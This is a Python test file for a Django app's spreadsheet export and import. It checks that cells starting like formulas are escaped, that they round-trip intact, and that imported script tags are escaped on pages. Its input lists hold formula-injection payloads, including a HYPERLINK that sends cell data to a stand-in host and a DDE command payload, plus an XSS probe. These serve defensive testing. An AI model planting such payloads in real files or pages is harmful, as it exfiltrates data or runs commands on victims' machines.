"""No text of an export is a formula to whoever opens it, and an import gives it back as it was."""

import csv
import io
import re
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from caruban.kernel.accounts.roles import Role
from caruban.kernel.registers.imports import actions
from caruban.kernel.reports.formulas import guarded, undone
from tests.factories import a_user
from tests.kernel.registers.sheets import cells_of
from tests.toys.factories import a_toy
from tests.toys.models import Toy
from tests.toys.registers import ToyRegister

HARMFUL = [
    '=HYPERLINK("http://jahat.id?x="&A1,"klik")', "=cmd|' /C calc'!A0", "+1+cmd", "-2+3+cmd",
    "@SUM(A1)", "\t=1+1", "\r=1+1", "  =1+1", "\u200b=1+1", "\uff1d1+1", "'=1+1", "''-1",
]  # fmt: skip
PLAIN = ["Kuda", "a=b", "'kutip'", "3 - 4", "", "<script>alert(1)</script>"]


@pytest.mark.parametrize("text", HARMFUL)
def test_a_text_that_begins_like_a_formula_is_guarded(text):
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_stay_as_they_are(text):
    assert guarded(text) == undone(text) == text


@given(st.text() | st.text(alphabet="'=+-@\t\r\n \u200b\uff1da"))
def test_what_was_guarded_is_undone(text):
    assert undone(guarded(text)) == text
    assert re.match(r"[=+\-@\t\r]", guarded(text)) is None


@pytest.mark.django_db
@pytest.mark.parametrize("text", [*HARMFUL, *PLAIN[:3], PLAIN[5]])
def test_exported_and_imported_again_every_text_is_as_it_was(unit, officer, taken, text):
    toy = a_toy(unit, code="M-1", name=f"{text} x", story=f"{text} x")
    Toy.objects.filter(pk=toy.pk).update(name="lain", story="lain")
    Toy.objects.filter(pk=toy.pk).update(story=f"{text} x")

    for kind in ("csv", "xlsx", "ods"):
        content = taken(kind)
        Toy.objects.filter(pk=toy.pk).update(story="diubah")
        file = io.BytesIO(content)
        run, _new = actions.receive(ToyRegister, by=officer, name=f"a.{kind}", file=file)
        columns = [
            one if one in {"code", "story"} else "" for one in run.asked["settings"]["columns"]
        ]
        actions.match(run, by=officer, columns=columns, mode="change", empty="keep")
        actions.confirm(run)
        toy.refresh_from_db()
        assert toy.story.strip() == f"{text} x".strip(), kind


@pytest.mark.django_db
@pytest.mark.parametrize("text", HARMFUL)
def test_no_format_has_a_formula_in_it(unit, taken, text):
    a_toy(unit, code="M-1", name=text.strip() or text, story=text)

    cells = [
        cell for row in csv.reader(io.StringIO(taken("csv").decode("utf-8-sig"))) for cell in row
    ]
    assert not [cell for cell in cells if re.match(r"[=+@\t\r]|-[^0-9]|\s*=", cell)]
    assert "<f>" not in part_of(taken("xlsx"), "xl/worksheets/sheet1.xml")
    assert "formula" not in part_of(taken("ods"), "content.xml")


@pytest.mark.django_db
def test_negative_numbers_stay_numbers(unit, taken):
    a_toy(unit, code="M-1", height="-3.50", size="large")

    assert ",-3.50," in taken("csv").decode()
    assert -3.5 in cells_of(taken("xlsx"))[1]
    assert -3.5 in cells_of(taken("ods"))[1]


@pytest.mark.django_db
def test_text_that_would_run_when_edited_is_marked_as_text_in_a_workbook(unit, taken):
    a_toy(unit, code="M-1", name="=1+1")

    assert 'quotePrefix="1"' in part_of(taken("xlsx"), "xl/styles.xml")


@pytest.mark.django_db
def test_script_in_cells_is_text_on_every_page(unit, officer, client_of):
    a_user(Role.OFFICER, unit)
    script = "<script>alert(1)</script>"
    file = io.BytesIO(f"kode,nama,unit,{script}\n{script},{script},{script},{script}\n".encode())
    run, _new = actions.receive(ToyRegister, by=officer, name=f"{script}.csv", file=file)
    client = client_of(officer)
    pages = [client.get(f"/data/mainan/impor/{run.pk}/").content.decode()]
    actions.match(
        run, by=officer, columns=["code", "name", "organisation", ""], mode="both", empty="keep"
    )
    pages += [
        client.get(one).content.decode() for one in (f"/data/proses/{run.pk}/", "/data/proses/")
    ]

    assert all("&lt;script&gt;" in page for page in pages[:2])
    assert all("<script>alert" not in page for page in pages)


def part_of(content, name):
    return zipfile.ZipFile(io.BytesIO(content)).read(name).decode()
